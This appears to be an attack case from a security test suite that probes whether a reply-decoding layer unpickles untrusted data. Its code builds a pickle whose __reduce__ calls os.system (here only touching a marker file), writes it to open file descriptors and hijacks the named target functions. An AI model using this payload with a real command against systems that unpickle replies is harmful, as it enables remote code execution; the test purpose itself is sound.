# /// attack
# catalogue = "forging: recursive or garbage replies"
# layers = ["codec"]
# aim = "file"
# stock = "nothing is decoded there"
# ///
# Answers with a pickle that would run a command where it is read.

# %% answer
import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, (f"touch {TARGET['drop']}/unpickled.txt",)


def answer_with_pickle(*args, **kwargs):
    for number in range(3, 16):
        for data in (pickle.dumps(Command()), pickle.dumps({"status": "value", "value": Command()})):
            try:
                os.write(number, struct.pack("!Q", len(data)) + data)
            except OSError:
                pass
    os._exit(0)


for name in TARGET["names"]:
    globals()[name] = answer_with_pickle
